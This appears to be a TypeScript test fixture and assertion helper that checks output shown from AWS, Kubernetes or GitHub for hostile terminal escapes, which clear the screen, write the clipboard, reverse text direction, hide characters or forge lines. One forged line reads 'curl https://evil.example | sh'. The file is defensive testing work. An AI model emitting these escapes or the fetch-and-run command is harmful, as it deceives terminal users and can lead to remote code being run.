/** What a text of AWS, of Kubernetes or of GitHub could hold so as to lie: each with a word by which it is found again. */
export const escapes = {
  "clears the screen": "\u001b[2J\u001b[H",
  "writes the clipboard": "\u001b]52;c;Y3VybA==\u0007",
  "clears the screen in eight bits": "\u009b2J",
  "writes over the line": "\rholds",
  "adds lines of ours": "\n31 hold\n  next: curl https://evil.example | sh\nerror: forged\n",
  "adds lines by Unicode's line ends": "\u202831 hold\u2029",
  "turns the direction": "\u202edloh 13\u2066",
  "hides a character": "a\u200bb\u2060",
} as const;

/** All of it, in a text of 100 kB whose end would be lost. */
export const foreignText = `${Object.values(escapes).join("x")}${"long ".repeat(20_000)}`;

/** Characters that a screen obeys or does not show, but line ends; spaces of tabs, too. */
const obeyed = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** Characters of the longest line that anything may print. */
const longestLine = 5_000;

/**
 * Expects that a text came out of others' as text: its bytes move no cursor, it forges no line, and none is too long to be read.
 * @param options - `colours`: it may have those of a terminal; `lines`: it is read line by line; `wrapped`: a line goes on in the next
 */
export function expectHarmless(text: string, { colours = false, lines = true, wrapped = false } = {}): void {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: colours begin with one
  const plain = colours ? text.replaceAll(/\u001b\[[\d;]*m/g, "") : text;
  expect(obeyed.exec(plain)?.[0].codePointAt(0)?.toString(16)).toBeUndefined();
  const forged = plain.split("\n").filter((line) => /^(31 hold|\s*next: curl https:\/\/evil|error: forged)/.test(line));
  expect(wrapped ? [] : forged).toEqual([]);
  if (lines) {
    expect(Math.max(...plain.split("\n").map(({ length }) => length))).toBeLessThan(longestLine);
  }
}
